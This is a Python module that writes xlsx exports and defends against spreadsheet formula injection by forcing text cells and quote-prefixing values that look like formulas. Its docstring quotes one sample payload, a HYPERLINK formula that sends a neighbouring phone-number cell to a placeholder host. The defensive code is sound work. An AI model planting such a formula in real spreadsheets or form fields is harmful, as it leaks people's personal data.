"""The one xlsx writer every export uses: every cell is text, never a formula.

Exports carry what the public typed (a support request's description, a worker's name, a family's
dietary notes). A spreadsheet program runs a cell that holds a formula, so a description such as
`=HYPERLINK("http://x/?"&E3,"点击查看详情")` would send the neighbouring cell (a phone number) away
when the file is opened. Here every value is written as a string cell (data type `s`), whatever
its Python type, and a value that begins with = + - @, a tab or a carriage return also gets the
quote-prefix style, so Excel and WPS show it literally even after someone edits the cell. The text
itself is kept as it was: nothing is added to it.

Each sheet has Chinese column headers, column widths and a frozen header row. openpyxl is imported
only when a workbook is made, so it does not weigh on every cold start.
"""

from __future__ import annotations

import base64
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.workbook.workbook import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters an xlsx file cannot hold (XML 1.0 forbids them); the request models refuse them, so
# they only reach here from old records. They are replaced, not dropped, so a reader sees that
# something was there.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_UNSAFE_IN_NAME = re.compile(r'[\\/:*?"<>|\x00-\x1f]+')


def filename(*parts: object) -> str:
    """A download's name from what a person reads (the list, the unit's name, the week), joined with
    "-", without the characters a file system refuses."""
    words = (_UNSAFE_IN_NAME.sub("_", str(p)).strip() for p in parts)
    return "-".join(w for w in words if w) + ".xlsx"


@dataclass(frozen=True)
class Column:
    header: str  # shown in the header row, in Chinese
    width: float = 14  # in characters, as Excel counts them


def text(value: object) -> str:
    """A cell's text: None is empty, booleans are 是/否, everything else as str() gives it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    return _ILLEGAL.sub("\ufffd", str(value))


def looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


class Sheet:
    """One worksheet: optional lines above the header (a title), the header row, then the rows."""

    def __init__(self, worksheet: Worksheet, columns: Sequence[Column], preface: Sequence[Sequence[object]]) -> None:
        self._sheet = worksheet
        self._line = 0  # the last row written, counted from 1
        self.rows = 0  # data rows, below the header
        for line in preface:
            self._append(line)
        if columns:
            self._append([c.header for c in columns])
            self._sheet.freeze_panes = f"A{len(preface) + 2}"  # rows above stay in view while scrolling
            from openpyxl.utils import get_column_letter

            for number, column in enumerate(columns, 1):
                self._sheet.column_dimensions[get_column_letter(number)].width = column.width

    def append(self, values: Sequence[object]) -> None:
        self._append(values)
        self.rows += 1

    def extend(self, rows: Iterable[Sequence[object]]) -> None:
        for values in rows:
            self.append(values)

    def _append(self, values: Sequence[object]) -> None:
        self._line += 1
        for number, value in enumerate(values, 1):
            content = text(value)
            if not content:
                continue
            cell: Any = self._sheet.cell(row=self._line, column=number)
            cell.value = content  # openpyxl types a string beginning with = as a formula ...
            cell.data_type = "s"  # ... so the type is set back to text after the value
            if looks_like_formula(content):
                cell.quotePrefix = True


class Book:
    """A workbook built sheet by sheet; `base64()` gives what the export routes answer."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._book: Workbook = Workbook()
        self._fresh = True

    def sheet(self, title: str, columns: Sequence[Column], preface: Sequence[Sequence[object]] = ()) -> Sheet:
        if self._fresh:
            worksheet = self._book.active
            assert worksheet is not None
            worksheet.title = title
            self._fresh = False
        else:
            worksheet = self._book.create_sheet(title)
        return Sheet(worksheet, columns, preface)

    def content(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()

    def base64(self) -> str:
        return base64.b64encode(self.content()).decode()
